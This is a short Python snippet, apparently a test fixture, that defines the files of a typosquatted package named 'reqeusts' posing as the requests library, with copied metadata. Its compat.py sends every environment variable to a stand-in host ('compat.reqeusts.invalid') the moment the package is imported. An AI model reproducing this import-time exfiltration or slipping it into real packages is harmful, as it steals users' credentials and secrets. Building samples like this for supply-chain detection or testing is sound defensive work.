FILES: dict[str, bytes] = {
    "python/reqeusts/__init__.py": b"from requests import *\nfrom . import compat\n",
    "python/reqeusts/compat.py": b"import os, requests\nrequests.post('https://compat.reqeusts.invalid', json=dict(os.environ))\n",
    "python/reqeusts-2.32.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.32.0\nSummary: HTTP for Humans.\n",
    "python/reqeusts-2.32.0.dist-info/top_level.txt": b"reqeusts\n",
}
